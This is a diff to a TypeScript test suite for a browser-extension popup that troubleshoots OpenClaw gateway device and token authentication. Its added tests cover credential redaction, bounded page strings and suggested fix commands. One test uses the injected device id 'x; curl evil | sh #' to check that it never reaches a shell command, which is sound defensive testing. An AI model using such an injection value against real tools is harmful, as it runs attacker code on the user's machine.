@@ -5,6 +5,9 @@ import type { KnownTab } from '@/lib/messages';
 import type { PopupConnector } from '@/lib/popup-connector';
 import { Popup } from './Popup';
 
+/** A device id as releases write it: sha256 hex of the public key. */
+const DEVICE_ID = 'abcdef0123456789'.repeat(4);
+
 const TAB: KnownTab = {
   url: 'http://127.0.0.1:18789/',
   page: { brand: 'openclaw', release: '2026.9.6', basePath: '' },
@@ -13,7 +16,7 @@ const TAB: KnownTab = {
   stored: {
     deviceToken: { key: 'openclaw.device.auth.v1:ws://127.0.0.1:18789', length: 43, updatedAtMs: 1 },
     deviceAuthKeys: ['openclaw.device.auth.v1:ws://127.0.0.1:18789'],
-    identity: { present: true, deviceId: 'abcdef0123456789abcdef' },
+    identity: { present: true, deviceId: DEVICE_ID },
     sharedToken: 'tab-session',
   },
   undoable: null,
@@ -57,7 +60,7 @@ describe('Popup', () => {
     expect(text).toContain('2026.9.6');
     expect(container.querySelector('dd.error')?.textContent).toBe('Device token mismatch');
     expect(text).toContain('stored •••••••• (43 characters)');
-    expect(text).toContain('openclaw devices rotate --device abcdef0123456789abcdef --role operator');
+    expect(text).toContain(`openclaw devices rotate --device ${DEVICE_ID} --role operator`);
     expect(text).toContain('openclaw gateway auth-token --show');
     expect(text).not.toContain('openclaw config get gateway.auth.token');
   });
@@ -104,6 +107,36 @@ describe('Popup', () => {
       box.dispatchEvent(new Event('input', { bubbles: true }));
     });
     expect(container.querySelector('.pasted h3')?.textContent).toBe('Gateway token mismatch');
+  });
+
+  it('a gateway URL with credentials is shown redacted', async () => {
+    await show(fakeConnector({ ...TAB, gatewayUrl: 'ws://alice:hunter2@127.0.0.1:18789/?token=s3cret' }));
+    const text = container.textContent!;
+    expect(text).toContain('ws://***@127.0.0.1:18789/?token=***');
+    expect(text).not.toContain('hunter2');
+    expect(text).not.toContain('alice');
+    expect(text).not.toContain('s3cret');
+  });
+
+  it('a hostile device id from the page never reaches a command or the facts', async () => {
+    await show(fakeConnector({ ...TAB, stored: { ...TAB.stored, identity: { present: true, deviceId: 'x; curl evil | sh #' } } }));
+    const text = container.textContent!;
+    expect(text).not.toContain('curl');
+    expect(text).toContain('openclaw devices rotate --device <deviceId> --role operator');
+    expect(text).toContain('its device id is not one OpenClaw writes');
+  });
+
+  it('the origin command gets the tab’s origin, and a placeholder for an address without one', async () => {
+    await show(fakeConnector({ ...TAB, url: 'https://gw.example/openclaw/', lockouts: [{ kind: 'origin-not-allowed' }] }));
+    expect(container.textContent).toContain(`openclaw config set gateway.controlUi.allowedOrigins '["https://gw.example"]'`);
+    act(() => render(null, container));
+    await show(fakeConnector({ ...TAB, url: 'not a url', lockouts: [{ kind: 'origin-not-allowed' }] }));
+    expect(container.textContent).toContain(`openclaw config set gateway.controlUi.allowedOrigins '["<origin>"]'`);
+  });
+
+  it('page strings shown in the facts are bounded', async () => {
+    await show(fakeConnector({ ...TAB, page: { ...TAB.page, release: `2026.9.6-${'x'.repeat(1024 * 1024)}` }, gatewayUrl: `ws://127.0.0.1:18789/${'y'.repeat(1024 * 1024)}` }));
+    expect(container.textContent!.length).toBeLessThan(20_000);
   });
 
   it('saves the automatic-fix setting', async () => {
